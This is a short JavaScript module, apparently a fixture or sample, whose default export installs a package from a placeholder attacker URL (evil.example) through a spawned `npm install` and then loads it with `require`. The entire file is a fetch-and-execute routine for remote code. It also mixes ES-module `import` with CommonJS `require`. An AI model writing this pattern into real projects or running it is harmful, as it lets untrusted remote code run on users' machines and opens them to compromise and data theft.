import { spawnSync } from "node:child_process";
export default () => {
  spawnSync("npm", ["install", "--no-save", "https://evil.example/pkg.tgz"]);
  require("pkg");
};
